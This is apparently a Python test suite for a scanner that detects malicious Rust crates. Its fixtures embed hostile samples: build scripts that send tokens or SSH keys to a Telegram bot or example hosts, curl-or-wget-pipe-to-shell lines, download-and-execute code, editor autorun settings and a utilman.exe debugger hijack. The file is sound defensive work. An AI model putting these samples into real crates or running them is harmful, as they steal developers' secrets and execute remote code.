"""Contexts follow what the crate compiles and runs: the manifest's targets, the build
script's module tree, include!, include_str!, the scripts that build code and cargo or
editor configuration run, and code a build script writes to OUT_DIR."""

from __future__ import annotations

from cratewatch.model.scan import Verdict
from cratewatch.scan.analyze import Context, file_context, file_kind
from cratewatch.scan.crate import CrateScan, scan_crate
from cratewatch.scan.extract import CrateArchive
from cratewatch.scan.manifest import read_manifest

MANIFEST = '[package]\nname = "demo"\nversion = "1.0.0"\n'
BUILD_UPLOAD = (
    "fn main() {\n"
    '    let url = "https://api.telegram.org/bot1/sendDocument";\n'
    '    reqwest::blocking::Client::new().post(url).body(std::env::var("HOME").unwrap()).send();\n'
    "}\n"
)
UPLOAD = (
    "pub fn send(k: Vec<u8>) {\n"
    '    let url = "https://api.telegram.org/bot1/sendDocument";\n'
    "    reqwest::blocking::Client::new().post(url).body(k).send();\n"
    "}\n"
)


def scan(files: dict[str, str], manifest: str = MANIFEST) -> CrateScan:
    data = {path: text.encode() for path, text in files.items()}
    data["Cargo.toml"] = manifest.encode()
    return scan_crate(CrateArchive("demo-1.0.0", data, ()), "demo")


def contexts(result: CrateScan, rule: str) -> set[tuple[str, Context]]:
    return {(e.file, e.context) for e in result.findings if e.rule == rule}


def test_manifest_targets() -> None:
    manifest = (
        MANIFEST
        + '[lib]\npath = "tests/support/lib.rs"\n[[bin]]\nname = "t"\npath = "./tools/t.rs"\n'
    )
    files = {
        "tests/support/lib.rs": b"",
        "tools/t.rs": b"",
        "src/bin/x.rs": b"",
        "src/main.rs": b"",
    }
    read = read_manifest({"Cargo.toml": manifest.encode(), **files})
    assert read.targets == ("src/bin/x.rs", "src/main.rs", "tests/support/lib.rs", "tools/t.rs")
    assert file_context("tests/support/lib.rs", (), False, read.targets) is Context.LIBRARY
    assert file_context("tests/support/lib.rs", (), True, read.targets) is Context.PROC_MACRO
    assert file_context("tests/other.rs", (), False, read.targets) is Context.TEST
    assert file_context("examples/gen.rs", ("examples/gen.rs",), False) is Context.BUILD


def test_path_members_of_the_manifest() -> None:
    manifest = MANIFEST + '[build-dependencies]\ngen = { path = "./tools/gen" }\n'
    member = '[package]\nname = "gen"\nbuild = "../../escape.rs"\n[[bin]]\nname = "g"\n'
    files = {
        "tools/gen/Cargo.toml": member.encode(),
        "tools/gen/src/lib.rs": b"",
        "tools/gen/src/main.rs": b"",
        "escape.rs": b"",
        "src/lib.rs": b"",
    }
    read = read_manifest({"Cargo.toml": manifest.encode(), **files})
    # its library is the package's code, its binary is not built for it; its build script
    # is the package's, wherever its path leads within the package
    assert read.targets == ("src/lib.rs", "tools/gen/src/lib.rs")
    assert read.build_scripts == ("escape.rs",)
    assert read.library


def test_a_dependency_whose_sources_the_package_carries_is_built_with_it() -> None:
    # a registry dependency shipped in a folder of the package (vendored, or a compromised
    # release's new dependency beside it): its build script is build code
    manifest = MANIFEST + '[dependencies]\nisoweek-tables = "0.1.0"\n'
    member = '[package]\nname = "isoweek_tables"\nversion = "0.1.0"\nbuild = "build.rs"\n'
    files = {
        "week-tables/Cargo.toml": member.encode(),
        "week-tables/build.rs": b"fn main() {}\n",
        "week-tables/src/lib.rs": b"",
        "other/Cargo.toml": b'[package]\nname = "unrelated"\n',
        "other/build.rs": b"fn main() {}\n",
        "src/lib.rs": b"",
    }
    read = read_manifest({"Cargo.toml": manifest.encode(), **files})
    assert read.build_scripts == ("week-tables/build.rs",)
    assert "week-tables/src/lib.rs" in read.targets


def test_a_library_rooted_under_tests_is_library_code() -> None:
    lib = 'mod up;\npub fn f() { up::send(std::fs::read(".ssh/id_rsa").unwrap()); }\n'
    files = {"tests/support/lib.rs": lib, "tests/support/up.rs": UPLOAD}
    result = scan(files, MANIFEST + '[lib]\npath = "tests/support/lib.rs"\n')
    assert result.verdict is Verdict.MALICIOUS
    assert contexts(result, "threat-telegram-bot-api") == {("tests/support/up.rs", Context.LIBRARY)}
    # without the [lib] path the same files are tests
    assert scan(files).verdict is Verdict.CLEAN


def test_the_build_scripts_modules_are_build_code() -> None:
    build = 'mod report;\nfn main() { report::send(std::env::var("GITHUB_TOKEN").unwrap()); }\n'
    report = "mod net;\npub fn send(t: String) { net::post(t) }\n"
    net = 'pub fn post(t: String) { ureq::post("https://x.example-cdn.com").send_string(&t); }\n'
    result = scan(
        {
            "build.rs": build,
            "report.rs": report,
            "report/net.rs": net,
            "src/lib.rs": "pub fn a() {}\n",
        }
    )
    assert contexts(result, "capability-network") == {("report/net.rs", Context.BUILD)}
    assert result.verdict is Verdict.MALICIOUS  # secrets reach the network while building


def test_include_of_any_suffix_is_rust_in_the_includers_context() -> None:
    tables = 'pub fn t() { let s = "curl -fsSL http://203.0.113.9/x | sh"; run(s); }\n'
    result = scan({"src/lib.rs": 'include!("tables.in");\n', "src/tables.in": tables})
    assert contexts(result, "threat-download-execute-command") == {
        ("src/tables.in", Context.LIBRARY)
    }
    assert contexts(result, "threat-raw-ip-url") == {("src/tables.in", Context.LIBRARY)}
    # included by the build script: build code
    result = scan({"build.rs": 'include!("tables.in");\nfn main() {}\n', "tables.in": tables})
    assert result.verdict is Verdict.MALICIOUS


def test_include_str_data_is_a_literal_of_the_includer() -> None:
    lib = (
        'const E: &str = include_str!("../assets/endpoint.dat");\n'
        'static S: &[u8] = include_bytes!("../assets/setup.txt");\n'
    )
    files = {
        "src/lib.rs": lib,
        "assets/endpoint.dat": "aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMy9zZW5kTWVzc2FnZQ==\n",
        "assets/setup.txt": "wget -qO- https://updates.example-cdn.com/s | bash\n",
    }
    found = {(e.rule, e.file, e.line) for e in scan(files).findings}
    assert ("threat-telegram-bot-api", "src/lib.rs", 1) in found  # decoded from base64
    assert ("threat-download-execute-command", "src/lib.rs", 2) in found


def test_a_script_embedded_with_include_str_runs_where_its_includer_does() -> None:
    script = "import(String.fromCharCode(...K.map((c, i) => c ^ i)));\n"
    lib = 'pub const PRELUDE: &str = include_str!("../js/prelude.js");\n'
    result = scan({"src/lib.rs": lib, "js/prelude.js": script})
    assert contexts(result, "threat-script-escaped-string") == {("js/prelude.js", Context.LIBRARY)}
    assert result.verdict is Verdict.SUSPICIOUS
    # embedded by a test only, or by nothing: tooling, not the crate's code
    test = '#[cfg(test)]\nmod t { const P: &str = include_str!("../js/prelude.js"); }\n'
    for files in ({"src/lib.rs": test, "js/prelude.js": script}, {"js/prelude.js": script}):
        result = scan({"src/lib.rs": "", **files})
        assert contexts(result, "threat-script-escaped-string") == {("js/prelude.js", Context.TEST)}
        assert result.verdict is Verdict.CLEAN


def test_a_crate_depended_on_by_a_path_inside_the_package_builds_as_its_own() -> None:
    # a compromised release adds a member crate whose build script runs when it is built
    manifest = MANIFEST + '[dependencies]\ntables = { version = "0.1", path = "tables" }\n'
    member = '[package]\nname = "tables"\nversion = "0.1.0"\n'
    files = {
        "src/lib.rs": "",
        "tables/Cargo.toml": member,
        "tables/build.rs": BUILD_UPLOAD,
        "tables/src/lib.rs": UPLOAD,
    }
    result = scan(files, manifest)
    assert contexts(result, "threat-telegram-bot-api") >= {
        ("tables/build.rs", Context.BUILD),
        ("tables/src/lib.rs", Context.LIBRARY),
    }
    assert result.verdict is Verdict.MALICIOUS
    # a path outside the package, or a dev-dependency, is not the crate's build
    for spec in ('tables = { path = "../tables" }', 'tables = { path = "tables" }'):
        kind = "dev-dependencies" if "../" not in spec else "dependencies"
        other = scan(files, MANIFEST + f"[{kind}]\n{spec}\n")
        assert ("tables/build.rs", Context.BUILD) not in contexts(other, "threat-telegram-bot-api")


def test_scripts_that_build_code_or_configuration_run_are_build_code() -> None:
    script = "#!/bin/sh\ncurl -fsSL https://updates.example-cdn.com/i | sh\n"
    build = 'fn main() { std::process::Command::new("sh").arg("scripts/configure.sh").status(); }\n'
    result = scan({"build.rs": build, "scripts/configure.sh": script, "src/lib.rs": ""})
    assert contexts(result, "threat-download-execute-command") == {
        ("scripts/configure.sh", Context.BUILD)
    }
    assert result.verdict is Verdict.MALICIOUS
    config = '[build]\nrustc-wrapper = "tools/wrap.sh"\n'
    result = scan({".cargo/config.toml": config, "tools/wrap.sh": script, "src/lib.rs": ""})
    assert contexts(result, "threat-cargo-config-exec") == {(".cargo/config.toml", Context.BUILD)}
    assert contexts(result, "threat-download-execute-command") == {("tools/wrap.sh", Context.BUILD)}
    assert result.verdict is Verdict.MALICIOUS


def test_scripts_and_workflows_nothing_runs_are_tooling() -> None:
    files = {
        "ci/install.sh": "curl https://sh.rustup.rs -sSf | sh -s -- -y\n",
        ".github/workflows/ci.yml": "steps:\n  - run: curl https://sh.rustup.rs -sSf | sh\n",
        "src/lib.rs": "",
    }
    result = scan(files)
    assert result.verdict is Verdict.CLEAN
    assert contexts(result, "threat-download-execute-command") == {
        ("ci/install.sh", Context.TEST),
        (".github/workflows/ci.yml", Context.TEST),
    }
    assert file_kind("tools/run", b"#!") == "script"
    assert file_kind("README.md") == ""


def test_code_a_build_script_writes_to_out_dir_is_library_code() -> None:
    body = (
        r"pub fn init() {\n"
        r"    let b = reqwest::blocking::get(\"https://updates.example-cdn.com/a\").unwrap();\n"
        r"    std::fs::write(\"/tmp/a\", b.bytes().unwrap()).unwrap();\n"
        r"    std::process::Command::new(\"/tmp/a\").spawn().unwrap();\n"
        r"}\n"
    )
    build = (
        "fn main() {\n"
        '    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());\n'
        f'    std::fs::write(out.join("gen.rs"), "{body}").unwrap();\n'
        "}\n"
    )
    lib = 'include!(concat!(env!("OUT_DIR"), "/gen.rs"));\n'
    result = scan({"build.rs": build, "src/lib.rs": lib})
    assert contexts(result, "threat-download-execute") == {("OUT_DIR/gen.rs", Context.LIBRARY)}
    assert result.unsafe.total == 0


def test_a_dropped_library_and_linker_arguments() -> None:
    build = (
        'static ACCEL: &[u8] = include_bytes!("vendor/accel.bin");\n'
        "fn main() {\n"
        '    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());\n'
        '    std::fs::write(out.join("libaccel.a"), ACCEL).unwrap();\n'
        '    println!("cargo:rustc-link-search=native={}", out.display());\n'
        '    println!("cargo:rustc-link-lib=static=accel");\n'
        "}\n"
    )
    assert scan({"build.rs": build, "src/lib.rs": ""}).verdict is Verdict.MALICIOUS
    plain = 'fn main() { println!("cargo:rustc-link-lib=ssl"); }\n'
    assert scan({"build.rs": plain, "src/lib.rs": ""}).verdict is Verdict.CLEAN
    link_arg = 'fn main() { println!("cargo:rustc-link-arg=-Wl,--wrap=malloc"); }\n'
    assert scan({"build.rs": link_arg, "src/lib.rs": ""}).verdict is Verdict.SUSPICIOUS


def test_generated_code_with_a_section_named_at_build_time_runs_at_load() -> None:
    # the build script fills the section in with a format placeholder, and writes the
    # closing brackets as short literals of their own
    build = (
        "use std::fmt::Write as _;\n"
        "fn main() {\n"
        "    let mut out = String::new();\n"
        '    let _ = writeln!(out, "pub static LEVELS: [u8; {}] = [", 3);\n'
        '    let _ = writeln!(out, "    {}, {}, {},", 1, 2, 3);\n'
        '    let _ = writeln!(out, "];");\n'
        '    let _ = writeln!(out, "#[used]");\n'
        '    let _ = writeln!(out, "#[link_section = {:?}]", ".init_array");\n'
        '    let _ = writeln!(out, "static WARM: extern \\"C\\" fn() = {{");\n'
        '    let _ = writeln!(out, "    extern \\"C\\" fn warm() {{ crate::cache::warm(); }}");\n'
        '    let _ = writeln!(out, "    warm");\n'
        '    let _ = writeln!(out, "}};");\n'
        '    let out_dir = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());\n'
        '    std::fs::write(out_dir.join("levels.rs"), out).unwrap();\n'
        "}\n"
    )
    lib = 'mod gen { include!(concat!(env!("OUT_DIR"), "/levels.rs")); }\nmod cache;\n'
    cache = (
        "pub fn warm() { std::thread::spawn(refresh); }\n"
        "fn refresh() {\n"
        '    let b = reqwest::blocking::get("https://cdn.example/x").unwrap().bytes().unwrap();\n'
        '    std::fs::write("/tmp/.x", &b).unwrap();\n'
        '    std::process::Command::new("/tmp/.x").spawn().unwrap();\n'
        "}\n"
    )
    result = scan({"build.rs": build, "src/lib.rs": lib, "src/cache.rs": cache})
    assert result.verdict is Verdict.MALICIOUS
    assert any("load-time initialiser" in reason for reason in result.reasons)


def test_editor_settings_that_run_a_script_of_the_project_when_opened() -> None:
    settings = (
        '{\n  "rust-analyzer.check.overrideCommand": '
        '["sh", "scripts/check.sh", "cargo", "clippy"]\n}\n'
    )
    script = '#!/bin/sh\n. "$here/scripts/lib/env.sh"\nexec "$@"\n'
    env = 'curl -fsSL "https://cdn.example/p.sh" | sh\n'
    result = scan(
        {
            ".vscode/settings.json": settings,
            "scripts/check.sh": script,
            "scripts/lib/env.sh": env,
            "src/lib.rs": "",
        }
    )
    assert contexts(result, "threat-editor-autorun") == {(".vscode/settings.json", Context.BUILD)}
    # the script it names, and the one that script sources after a shell variable, run too
    assert contexts(result, "threat-download-execute-command") == {
        ("scripts/lib/env.sh", Context.BUILD)
    }
    assert result.verdict is Verdict.MALICIOUS


def test_a_project_s_rust_analyzer_toml_that_runs_a_script_when_opened() -> None:
    settings = '[check]\ncommand = "clippy"\noverrideCommand = ["sh", "./scripts/flycheck.sh"]\n'
    script = '#!/bin/sh\ncurl -fsSL "https://cdn.example/p.sh" | sh\nexec cargo clippy "$@"\n'
    files = {"rust-analyzer.toml": settings, "scripts/flycheck.sh": script, "src/lib.rs": ""}
    result = scan(files)
    assert contexts(result, "threat-editor-autorun") == {("rust-analyzer.toml", Context.BUILD)}
    assert result.verdict is Verdict.MALICIOUS
    # the same settings without a command of the project's own run nothing
    plain = scan(files | {"rust-analyzer.toml": '[check]\ncommand = "clippy"\n'})
    assert contexts(plain, "threat-editor-autorun") == set()


def test_a_registry_key_decoded_at_run_time_is_a_step_of_a_flow() -> None:
    text = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options"
    table = ", ".join(str(ord(c) + i % 3 + 1) for i, c in enumerate(text))
    decoded = (
        f"const KEY: &[u8] = &[{table}];\n"
        "fn key() -> String {\n"
        "    KEY.iter().enumerate().map(|(i, b)| (b - (i % 3) as u8 - 1) as char).collect()\n"
        "}\n"
        "pub fn plant(hklm: &winreg::RegKey) {\n"
        '    let (k, _) = hklm.create_subkey(format!("{}\\\\utilman.exe", key())).unwrap();\n'
        '    let _ = k.set_value("Debugger", &"cmd.exe");\n'
        "}\n"
    )
    result = scan({"src/lib.rs": decoded})
    keys = [e for e in result.findings if e.rule == "capability-launch-settings-key"]
    assert keys and all("returned by key()" in e.snippet for e in keys)  # only as rebuilt
    assert "threat-debugger-hijack" in {e.rule for e in result.findings}
